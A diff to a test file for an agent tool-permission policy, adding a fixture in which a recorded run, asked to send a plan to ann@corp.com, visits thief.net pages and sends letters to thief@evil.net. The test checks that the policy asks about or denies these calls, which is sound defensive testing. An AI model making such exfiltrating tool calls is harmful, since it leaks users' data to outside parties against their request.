@@ -33,6 +33,11 @@ beforeAll(async () => {
   const tools = [
     { name: 'read_letters', description: 'Reads all letters.', inputSchema: { type: 'object', properties: {} } },
     {
+      name: 'visit_page',
+      description: 'Visits a page.',
+      inputSchema: { type: 'object', properties: { url: text }, required: ['url'] },
+    },
+    {
       name: 'send_letter',
       description: 'Sends a letter.',
       inputSchema: { type: 'object', properties: { recipient: text, body: text }, required: ['recipient', 'body'] },
@@ -100,7 +105,19 @@ describe('estop policy test', () => {
   });
 
   it('goes on as if the person had said yes, where that is assumed', async () => {
-    expect(linesOf(await test('--assume', 'allow'))[1]?.decisions).toEqual(['allow', 'ask', 'allow', 'deny']);
+    const visit = (page: string) => ({ tool: 'visit_page', args: { url: `https://thief.net/${page}` }, output: 'x' });
+    const own = join(folder, 'answered.jsonl');
+    const calls = [visit('a'), visit('b'), send('thief@evil.net'), send('thief@evil.net')];
+    writeFileSync(
+      own,
+      JSON.stringify({ run: 'answered', request: 'Send the plan to ann@corp.com', tools: 'post', calls }),
+    );
+    const args = ['policy', 'test', '--runs', own, '--tools', toolsFile, '--json', '--assume'];
+    const decided = async (answer: string) =>
+      linesOf(await rig.run([...args, answer], { env: offline, cwd: folder }))[0]?.decisions;
+    // A site stays open once somebody opened it; what is sent is asked about each time.
+    expect(await decided('allow')).toEqual(['ask', 'allow', 'ask', 'ask']);
+    expect(await decided('deny')).toEqual(['ask', 'deny', 'ask', 'deny']);
   });
 
   it('decides about models and resources of a run as well, and what was read there counts', async () => {
